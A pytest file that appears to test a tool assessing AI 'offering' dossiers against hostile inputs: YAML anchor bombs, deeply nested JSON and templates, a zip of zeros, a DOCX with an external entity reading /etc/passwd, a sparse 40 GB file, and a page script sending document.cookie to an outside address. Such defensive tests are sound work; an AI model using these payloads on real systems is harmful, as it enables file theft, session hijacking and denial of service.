"""One hostile file of each kind in one offering: each is refused with its reason, and the rest is examined."""

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from offering import DOSSIER, write

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DEEP = b'{"a":' * 100_000


def word(body: str, before: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>')
    return out.getvalue()


OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = b"a: &a [x, x]\n" + b"".join(b"%c: &%c [*%c, *%c]\n" % (n + 1, n + 1, n, n) for n in range(97, 121))

HOSTILE = {
    # kind: (table, files, part of the reason)
    "a YAML bomb": ('[[environment]]\nname = "bomb"\nartefacts = { kubernetes = "bomb.yaml" }',
                    {"bomb.yaml": LAUGHS}, "anchors"),
    "deep YAML": ('[[environment]]\nname = "deep"\nartefacts = { compose = "deep.yaml" }',
                  {"deep.yaml": b"[" * 50_000}, "deeper"),
    "a deep state": ('[[environment]]\nname = "state"\nartefacts = { terraform = "deep.tfstate" }',
                     {"deep.tfstate": DEEP}, "nested too deeply"),
    "a deep bill": ('[[environment]]\nname = "bill"\nartefacts = { bom = "bom.json" }',
                    {"bom.json": b'{"bomFormat": "CycloneDX", "components": ' + DEEP}, "nested too deeply"),
    "a deep log": ('[[evaluation]]\nname = "log"\nartefacts = { log = "results_1.json" }',
                   {"results_1.json": b'{"results": ' + DEEP}, "nested too deeply"),
    "an archive of zeros": ('[[evaluation]]\nname = "zeros"\nartefacts = { log = "zeros.eval" }',
                            {"zeros.eval": None}, "beyond all measure"),
    "a deep configuration": ('[[component]]\nname = "guard"\nrole = "guard"\nartefacts = { config = "config.json" }',
                             {"config.json": DEEP}, "deep"),
    "a deep template": ('[[component]]\nname = "judge"\nrole = "judge"\nartefacts = { template = "chat_template.jinja" }',
                        {"chat_template.jinja": b"{{" + b"(" * 9000}, "deep"),
    "Word with an entity from outside": (
        '[[paper]]\nname = "letter"\nfile = "letter.docx"\nby = "maker"\ndate = 2026-09-01\n[[paper.says]]\n'
        'topic = "store.country"\nitem = "store:cases"\nvalue = "ID"\nquote = "root:x:0:0"\nread_by = "A. Reader"',
        {"letter.docx": word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", OUTSIDE)}, "entities"),
    "Word that unfolds": (
        '[[paper]]\nname = "bomb"\nfile = "bomb.docx"\nby = "maker"\ndate = 2026-09-01\n[[paper.says]]\n'
        'topic = "store.country"\nitem = "store:cases"\nvalue = "ID"\nquote = "aaaa"\nread_by = "A. Reader"',
        {"bomb.docx": word("<w:p><w:r><w:t>" + "a" * 4_000_000 + "</w:t></w:r></w:p>")}, "unfolds"),
    "an interview by nobody": (
        '[[paper]]\nname = "interview"\nfile = "interview.toml"\nby = "maker"',
        {"interview.toml": b'schema = "ringtrue/interview/1"\n[[answer]]\nanswer = "x"\n'}, "nobody is named"),
    "a card that refers to itself": (
        '[[component]]\nname = "card"\nrole = "embedding"\nartefacts = { card = "card.md" }',
        {"card.md": b"---\n" + LAUGHS + b"base_model: *b\n---\n"}, "anchors"),
}  # fmt: skip


def zeros() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("header.json", b"\0" * (15 << 20))
    return out.getvalue()


def test_each_is_refused_with_its_reason_and_the_rest_is_examined(ringtrue, tmp_path):
    tables = "\n\n".join(table for table, _, _ in HOSTILE.values())
    folder = write(tmp_path / "offering", f"{DOSSIER}\n{tables}\n")
    for _, files, _ in HOSTILE.values():
        for name, content in files.items():
            (folder / name).write_bytes(zeros() if content is None else content)
    told = ringtrue("assess", folder).err
    ran = ringtrue("assess", folder, "--json")
    assert ran.code == 1
    reasons = [each["why"] for each in ran.data["troubles"]]
    for kind, (_, files, reason) in HOSTILE.items():
        (name,) = files
        assert any(reason in each and name in each for each in reasons), (kind, reasons)
        assert name in told, kind
    assert not any("RecursionError" in each or "MemoryError" in each for each in reasons)
    seen = {each["id"]: each["verdict"] for each in ran.data["requirements"]}
    assert seen["operator-domestic"] == "met"
    assert "/bin/bash" not in ran.out + told


def test_a_brochure_with_a_script_is_quoted_and_the_script_runs_nowhere(ringtrue, tmp_path):
    script = "<script>fetch('http://192.0.2.1/'+document.cookie)</script>"
    sentence = "Our sovereign AI never sends your data abroad."
    claim = f'\n[[claim]]\nquote = "{script}{sentence}"\nby = "vendor"\nto = "public"\nfile = "page.html"\n'
    folder = write(tmp_path / "offering", DOSSIER + claim.replace("'", "\\u0027") + "name = 'scripted'\n")
    (folder / "page.html").write_text(f"<html><body onload=alert(1)><p>{script}{sentence}</p></body></html>")
    assert ringtrue("assess", folder).code == 0
    page = ringtrue("report", folder).out
    assert sentence in page
    assert "<script" not in page
    assert "onload=" not in page
    assert "default-src 'none'" in page


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["inspect", "harness"])
def test_a_log_of_a_gigabyte_is_read_in_little_memory_and_the_rest_is_examined(tmp_path, kind):
    table = '\n[[evaluation]]\nname = "large"\nartefacts = { log = "results_large.json" }\n'
    folder = write(tmp_path / "offering", DOSSIER + table)
    sample = json.dumps({"id": 1, "messages": ["word " * 20] * 9000, "events": []})
    head = {
        "inspect": '{"version": 2, "status": "success", "eval": {"task": "t", "model": "m", "scorers": '
        '[{"name": "match"}], "dataset": {"location": "soal.jsonl"}}, "samples": [',
        "harness": '{"results": {}, "configs": {"t": {"dataset_path": "json", "dataset_kwargs": {"data_files": "a.jsonl"}'
        ', "metric_list": [{"metric": "acc"}]}}, "samples": [',
    }[kind]
    if kind == "inspect":
        (folder / "ringtrue.toml").write_text((DOSSIER + table).replace("results_large", "large"))
    log = folder / ("large.json" if kind == "inspect" else "results_large.json")
    with log.open("w") as out:
        out.write(head + sample)
        while out.tell() < 1 << 30:
            out.write("," + sample)
        out.write("]}")
    code = (
        "import sys; from ringtrue.cli import _run; told = _run(['assess', sys.argv[1], '--json', '-o', "
        "sys.argv[2]]); print(told, next(each.split()[1] for each in open('/proc/self/status') if 'VmHWM' in each))"
    )
    told = tmp_path / "told.json"
    ran = subprocess.run([sys.executable, "-c", code, folder, told], capture_output=True, text=True, check=True)
    log.unlink()
    left, peak = map(int, ran.stdout.split())
    troubles = json.loads(told.read_text())["troubles"]
    # A harness log holds its samples in files of their own: one part of a gigabyte is refused, not read.
    assert (left, [("one part of it" in each["why"]) for each in troubles]) == (
        (0, []) if kind == "inspect" else (1, [True])
    )
    assert peak < 600_000, f"{peak} kB"


def test_a_sparse_log_is_refused_at_once(ringtrue, tmp_path):
    table = '\n[[evaluation]]\nname = "sparse"\nartefacts = { log = "results_1.json" }\n'
    folder = write(tmp_path / "offering", DOSSIER + table)
    with Path(folder / "results_1.json").open("wb") as out:
        out.truncate(40 << 30)
    ran = ringtrue("assess", folder, "--json")
    assert ran.code == 1
    assert "sparse" in ran.data["troubles"][0]["why"]
